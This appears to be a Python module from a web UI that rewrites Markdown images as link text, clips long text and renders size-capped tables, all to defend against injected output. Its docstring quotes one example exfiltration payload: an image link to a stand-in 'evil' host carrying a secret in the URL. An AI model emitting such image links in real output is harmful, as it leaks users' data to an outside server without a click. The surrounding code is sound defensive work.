"""Markdown safety: everything the UI shows passes through here before it reaches the browser.

The browser renders model and program output as Markdown (``unsafe_allow_html`` stays off), and
it fetches every image URL at once: an injected ``![x](https://evil/?q=<secret>)`` would leak
data without a click. Whether text is an image depends on the whole document (fences opened in
list items, raw HTML, autolinks all change what a backtick means), so a real CommonMark parser
decides, not a regular expression. Every function here is linear in its input, and every
output is bounded, so rendering one user's hostile output cannot stall the event loop for others.
"""

from __future__ import annotations

import json
from typing import Any, Iterable, Sequence

from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.text import code_text, fence

__all__ = ["clip_text", "code_text", "fence", "neutralise_images", "table_markdown"]

MAX_CELL_CHARS = 80
IMAGE_MARK = "!["
LINK_TEXT = "[image: "
# Raw HTML on, as in CommonMark: it decides whether a backtick opens a code span.
_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_CODE_BLOCKS = frozenset({"fence", "code_block"})


def neutralise_images(text: str) -> str:
    """Turn every Markdown image into link text (``![alt](url)`` → ``[image: alt](url)``).

    The parser finds the lines of each paragraph, heading or table cell that holds an image; only
    those lines are rewritten, so code blocks stay byte for byte. Text is parsed again after the
    rewrite, and if any image is still found the mark is replaced everywhere: no ``![`` left means
    no image in any Markdown renderer.
    """
    if IMAGE_MARK not in text:
        return text
    for _ in range(3):
        lines = _image_lines(_PARSER.parse(text))
        if not lines:
            return text
        text = _rewrite_lines(text, lines)
    return text.replace(IMAGE_MARK, LINK_TEXT)


def _image_lines(tokens: Sequence[Token]) -> set[int] | None:
    """Source lines of inline content with an image; None when an image has no known lines."""
    found: set[int] = set()
    for token in tokens:
        if token.type != "inline" or not any(_is_image(child) for child in token.children or ()):
            continue
        if token.map is None:
            return None
        found.update(range(token.map[0], token.map[1]))
    return found


def _is_image(token: Token) -> bool:
    return token.type == "image" or any(_is_image(child) for child in token.children or ())


def _rewrite_lines(text: str, lines: set[int] | None) -> str:
    if lines is None:
        return text.replace(IMAGE_MARK, LINK_TEXT)
    parts = text.splitlines(keepends=True)
    for index in lines:
        if index < len(parts):
            parts[index] = parts[index].replace(IMAGE_MARK, LINK_TEXT)
    return "".join(parts)


def clip_text(text: str, max_chars: int, what: str = "characters") -> str:
    """At most ``max_chars`` of ``text``, saying plainly how much was left out."""
    if len(text) <= max_chars:
        return text
    return f"{text[:max_chars]}\n\n_(cut: showing {max_chars:,} of {len(text):,} {what})_"


def _cell(value: Any) -> str:
    text = "" if value is None else str(value)[: MAX_CELL_CHARS * 2]
    text = text.replace("\\", "\\\\").replace("|", "\\|").replace("\r", " ").replace("\n", " ")
    if len(text) > MAX_CELL_CHARS:
        text = text[: MAX_CELL_CHARS - 1] + "…"
    return text


def table_markdown(table: dict[str, Any] | str, max_rows: int = 20, max_columns: int = 30) -> str:
    """A table payload (``{"columns", "rows", "shape"}``) as a Markdown table within the caps.

    The payload may come from user code, so every part is bounded here again: at most
    ``max_rows`` rows and ``max_columns`` columns are drawn, and a note says what the whole
    table holds (e.g. "showing 20 of 400,000 rows").
    """
    if isinstance(table, str):
        try:
            table = json.loads(text := table)
        except json.JSONDecodeError:
            return fence(clip_text(text, 2000))
    if not isinstance(table, dict):
        return fence(clip_text(str(table), 2000))
    all_columns = list(table.get("columns") or [])
    rows = table.get("rows") or []
    if not isinstance(rows, list):
        rows = []
    if not all_columns and rows and isinstance(rows[0], list):
        all_columns = [str(i) for i in range(len(rows[0]))]
    columns = [_cell(c) for c in all_columns[:max_columns]]
    lines: list[str] = []
    if columns:
        lines.append("| " + " | ".join(columns) + " |")
        lines.append("|" + "|".join(" --- " for _ in columns) + "|")
        for row in rows[:max_rows]:
            cells = [_cell(v) for v in _first(row if isinstance(row, list) else [row], len(columns))]
            cells += [""] * (len(columns) - len(cells))
            lines.append("| " + " | ".join(cells) + " |")
    n_rows, n_columns = _shape(table.get("shape"), len(rows), len(all_columns))
    notes = [f"shape: {n_rows:,} rows × {n_columns:,} columns"]
    if min(len(rows), max_rows) < n_rows:
        notes.append(f"showing {min(len(rows), max_rows):,} of {n_rows:,} rows")
    if len(columns) < n_columns:
        notes.append(f"showing {len(columns):,} of {n_columns:,} columns")
    lines += ["", "_" + "; ".join(notes) + "_"]
    return "\n".join(lines)


def _first(values: Iterable[Any], n: int) -> list[Any]:
    out: list[Any] = []
    for value in values:
        if len(out) >= n:
            break
        out.append(value)
    return out


def _shape(shape: Any, n_rows: int, n_columns: int) -> tuple[int, int]:
    """The table's whole shape as reported, or what the payload holds when that is unusable."""
    try:
        rows, columns = (int(shape[0]), int(shape[1]))
    except (TypeError, ValueError, IndexError, KeyError):
        return n_rows, n_columns
    return max(rows, n_rows, 0), max(columns, n_columns, 0)
